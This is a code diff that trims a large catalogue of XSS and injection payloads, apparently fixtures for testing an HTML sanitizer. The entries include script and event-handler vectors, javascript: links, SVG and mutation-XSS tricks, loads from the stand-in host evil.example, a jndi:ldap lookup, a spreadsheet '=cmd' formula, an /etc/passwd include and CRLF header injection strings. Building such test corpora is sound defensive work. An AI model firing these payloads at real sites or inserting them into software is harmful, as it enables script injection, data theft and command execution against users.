@@ -9,15 +9,10 @@ const far = 'https://evil.example'
 const scripts = [
   ...['<script>RUN</script><MARK>', '<SCRIPT data-xss>RUN</SCRIPT>'],
   ...['<script data-xss src=data:text/javascript,RUN></script>', '<script data-xss src="FAR/x.js"></script>'],
-  ...['<script data-xss src=//evil.example/x.js>', '<script type=module data-xss>RUN</script>'],
   ...['<script/data-xss>RUN</script>', '<script\n data-xss\n>RUN</script\n>'],
-  ...['<script nonce=abc data-xss>RUN</script>', '<scr<script data-xss>ipt>RUN</script>'],
   ...['<<script data-xss>RUN//<</script>', '<script data-xss>RUN<!--', '<!--><script data-xss>RUN</script>-->'],
-  '<script type="text/babel" data-xss>RUN</script>',
   '<script type="speculationrules" data-xss>{"prefetch":[{"urls":["FAR/"]}]}</script>',
   '<script type="importmap" data-xss>{"imports":{"react":"FAR/x.js"}}</script>',
-  '<script async defer data-xss src=FAR/x.js?></script >',
-  '<script data-xss>document.write("<img src=FAR/>")</script>',
   ...['<template shadowrootmode=open><script data-xss>RUN</script></template><MARK>', '<base data-xss href="FAR/">'],
 ]
 
@@ -31,35 +26,23 @@ const handlers = [
   ['audio src=x', 'onerror onloadedmetadata'],
   ['details open', 'ontoggle onpointerrawupdate'],
   ['input autofocus', 'onfocus onblur oninput onbeforeinput oninvalid'],
-  ['textarea autofocus', 'onfocus onselectionchange'],
-  ['select autofocus', 'onfocus onchange'],
-  ['button autofocus', 'onfocus onclick onpointerdown'],
   ['a href=#x tabindex=0 autofocus', 'onfocus onmouseover onauxclick'],
-  ['div style=animation:x contenteditable autofocus', 'onfocus onanimationstart onpaste oncopy onscroll'],
-  ['object data=x', 'onerror onload'],
-  ['embed src=x', 'onload'],
-  ['marquee', 'onstart onfinish'],
-  ['form', 'onsubmit onformdata'],
-  ['link rel=stylesheet href=x', 'onerror onload'],
+  ['div style=animation:x contenteditable autofocus', 'onfocus onanimationstart onpaste'],
+  ['object data=x', 'onerror'],
+  ['form', 'onsubmit'],
+  ['link rel=stylesheet href=x', 'onerror'],
   ['style', 'onload'],
-  ['track src=x', 'onerror'],
-  ['dialog open', 'oncancel onclose'],
   ['p popover id=x', 'onbeforetoggle'],
 ].flatMap(([tag = '', events = '']) => events.split(' ').map((event) => `<${tag} data-xss ${event}=RUN>`))
 
 const links = [
   ...['javascript:RUN', 'JaVaScRiPt:RUN//https://example.com', '\tjavascript:RUN', 'java\tscript:RUN'],
-  ...['java\nscript:RUN', '\u0001javascript:RUN', 'javascript&colon;RUN', 'jav&#x09;ascript:RUN'],
   ...['&#106;avascript:RUN', 'vbscript:msgbox(1)', 'data:text/html,<script>RUN</script><MARK>'],
-  'data:text/html;base64,PHNjcmlwdD5fX3hzcz0xPC9zY3JpcHQ+',
   ...['data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="RUN"/>', 'blob:FAR/x', 'filesystem:FAR/x'],
   ...['<a data-xss href="javascript:RUN">press</a>', '<a data-xss href=" &#14; javascript:RUN">press</a>'],
-  '<a data-xss href="java&Tab;script&colon;RUN">press</a>',
   ...['<a data-xss href="data:text/html,RUN" download>press</a>', '<a data-xss ping="FAR/" href="/home">press</a>'],
-  '<area data-xss href=javascript:RUN shape=default>',
   '<form data-xss action=javascript:RUN><button>press</button></form>',
   '<button data-xss formaction=javascript:RUN>press</button>',
-  '<iframe data-xss src=javascript:parent.RUN></iframe>',
   '<iframe data-xss srcdoc="<script>parent.RUN</script>"></iframe>',
   ...['<object data-xss data=javascript:RUN></object>', '<embed data-xss src=javascript:RUN>'],
   ...['[press](javascript:RUN)', '![x](FAR/x.png)', '<javascript:RUN>'],
@@ -69,7 +52,6 @@ const links = [
 const addresses = [
   ...['FAR/"onmouseover="RUN"data-xss="', "FAR/'onmouseover='RUN'data-xss='", 'FAR/`onmouseover=`RUN`data-xss=`'],
   ...['FAR/"><img src=x onerror=RUN data-xss>', 'FAR/<svg/onload=RUN data-xss>', 'FAR/?q=javascript:RUN'],
-  ...['FAR/#"><script>RUN</script><MARK>', 'https://localhost:RUN@evil.example/'],
   ...['https://evil.example\\@localhost/"data-xss=1', '//evil.example/x', 'https:/\\evil.example/x'],
   ...['https://[::1"onclick=RUN]/data-xss', 'https://xn--80ak6aa92e.com/аррӏе', 'https://evil.example/\u202egpj.exe'],
   ...['http://evil.example/"><MARK>', 'HTTPS://EVIL.EXAMPLE/"data-xss'],
@@ -78,15 +60,10 @@ const addresses = [
 const drawings = [
   ...['<svg><script data-xss>RUN</script></svg>', '<svg><script data-xss href="data:,RUN"/></svg>'],
   '<svg><animate data-xss onbegin=RUN attributeName=x dur=1s>',
-  '<svg><set data-xss attributeName=onmouseover to=RUN>',
   '<svg><a data-xss xlink:href="javascript:RUN"><text y=20>press</text></a></svg>',
   '<svg><use data-xss href="data:image/svg+xml,<svg id=x onload=RUN />#x"/></svg>',
   '<svg><foreignObject><img data-xss src=x onerror=RUN></foreignObject></svg>',
-  ...['<svg><image data-xss href=x onerror=RUN></svg>', '<svg><style data-xss>*{background:url(FAR/)}</style></svg>'],
-  ...['<svg><handler data-xss>RUN</handler></svg>', '<svg><discard data-xss onbegin=RUN>'],
   '<math><a data-xss xlink:href=javascript:RUN>press</a></math>',
-  '<math><maction data-xss actiontype=statusline xlink:href=javascript:RUN>press</maction></math>',
-  '<math href="javascript:RUN" data-xss>press</math>',
   '<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml" data-xss>RUN</x:script>',
   '<![CDATA[<img src=x onerror=RUN data-xss>]]>',
 ]
@@ -97,17 +74,11 @@ const mutants = [
   '<math><mtext><table><mglyph><style><img title="--></style><img src=x onerror=RUN data-xss>">',
   '<math><mtext><mglyph><svg><mtext><textarea><a title="</textarea><img src=x onerror=RUN data-xss>">',
   '<svg></p><style><a id="</style><img src=x onerror=RUN data-xss>">',
-  '<svg><title><style><img data-xss title="</style><img src=x onerror=RUN>">',
   '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=RUN data-xss>',
-  '<select><template><img src=x onerror=RUN data-xss></template></select><MARK>',
   ...['<table><caption><img data-xss src=x onerror=RUN></table>', '<table><td background=FAR/ data-xss>'],
-  '<listing>\n<img data-xss src=x onerror=RUN></listing>',
   '<xmp><p title="</xmp><img src=x onerror=RUN data-xss>">',
-  '<noembed><img title="</noembed><img src=x onerror=RUN data-xss>"></noembed>',
-  '<option><style></option></select><b><img data-xss src=x onerror=RUN></style></option>',
   ...['<p id="a&#10;b"><img alt="`><img data-xss src=x onerror=RUN>`">', '<a href="x"<img data-xss src=x onerror=RUN>'],
   ...['<img src="x` `<script>RUN</script>"` `><MARK>', '<plaintext data-xss>'],
-  '<details><summary><svg><desc><img data-xss src=x onerror=RUN></desc>',
 ]
 
 /** Break out of the element that contains them. */
@@ -119,17 +90,14 @@ const closers = ['title', 'textarea', 'style', 'script', 'noscript', 'template',
 const breakers = [
   ...['" autofocus onfocus=RUN data-xss x="', "' autofocus onfocus=RUN data-xss x='", '` onfocus=RUN data-xss x=`'],
   ...[' onmouseover=RUN data-xss ', '"><img data-xss src=x onerror=RUN>', "'><img data-xss src=x onerror=RUN>"],
-  ...['/><img data-xss src=x onerror=RUN>', '\\"><img data-xss src=x onerror=RUN>'],
   ...['"/style="position:fixed;inset:0"data-xss="', '&quot;><img data-xss src=x onerror=RUN>'],
   ...['"]}</script><img data-xss src=x onerror=RUN>', '--><img data-xss src=x onerror=RUN>'],
-  ...[']]><img data-xss src=x onerror=RUN>', '*/RUN/*<MARK>', "';RUN;//<MARK>", '";RUN;//<MARK>', '§{RUN}<MARK>'],
   '\u2028RUN\u2029<MARK>',
 ]
 
 /** Syntax of template engines, spreadsheets, and log processors. */
 const languages = [
   ...['{{constructor.constructor("RUN")()}}', '{{7*7}}<MARK>', '§{{<%[%\'"}}%\\<MARK>', '<%= 7*7 %><MARK>'],
-  ...['#{7*7}<MARK>', '[[§{7*7}]]', '{% include "/etc/passwd" %}', '@(1+2)<MARK>', '{"__proto__":{"xss":1}}'],
   ...['__proto__', 'constructor', 'toString', '§{jndi:ldap://evil.example/x}', '=HYPERLINK("FAR/","press")', '=1+1'],
   ...['+1+1', '-1+1', '@SUM(1)', '\t=1+1', '\r=1+1', '=cmd|"/c calc"!A0', '",=1+1,"', '\r\nBcc: everybody@purdue.edu'],
   ...['\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:planted', '\\nATTACH:FAR/x', '\r\nSet-Cookie: quiver=x'],
@@ -138,10 +106,8 @@ const languages = [
 
 const entities = [
   ...['&lt;img data-xss src=x onerror=RUN&gt;', '&#60;img data-xss src=x onerror=RUN&#62;'],
-  ...['&#x3c;img data-xss src=x onerror=RUN&#x3e;', '&amp;lt;img data-xss src=x onerror=RUN&amp;gt;'],
   ...['%3Cimg%20data-xss%20src=x%20onerror=RUN%3E', '\\u003cimg data-xss src=x onerror=RUN\\u003e'],
   ...['\\x3cimg data-xss src=x onerror=RUN\\x3e', '+ADw-img data-xss src=x onerror=RUN+AD4-'],
-  ...['＜img data-xss src=x onerror=RUN＞', '‹img data-xss src=x onerror=RUN›', '&NotExistingEntity;<MARK>'],
   '&#0;<img data-xss src=x onerror=RUN>',
 ]
 
@@ -158,15 +124,11 @@ const letters = [
 const quiet = [
   ...['<meta http-equiv=refresh content="0;url=FAR/" data-xss>', '<meta name=referrer content=unsafe-url data-xss>'],
   ...['<link rel=stylesheet href=FAR/x.css data-xss>', '<link rel=preload as=script href=FAR/x.js data-xss>'],
-  ...['<link rel=dns-prefetch href=FAR data-xss>', "<img data-xss src='FAR/?"],
   ...['<img data-xss srcset="FAR/x 1x" src=FAR/x>', '<style data-xss>*{background:url(FAR/x)}</style>'],
-  ...['<style data-xss>@import "FAR/x.css"</style>', '<div data-xss style="background:url(FAR/x)">'],
   ...['<iframe data-xss src=FAR/></iframe>', '<frameset data-xss><frame src=FAR/></frameset>'],
   '<form data-xss id=root action=FAR/><input name=attributes><input name=children></form>',
   '<img data-xss name=getElementById><img data-xss name=location>',
   ...['<a data-xss id=quiver><a data-xss id=quiver name=url href=FAR>', '<object data-xss data=FAR/></object>'],
-  ...['<portal data-xss src=FAR/></portal>', '<video data-xss poster=FAR/x></video>'],
-  ...['<input data-xss type=image src=FAR/x>', '<x-frame data-xss is=x-frame>'],
 ]
 
 /** All payloads, each with its own number in its mark. */
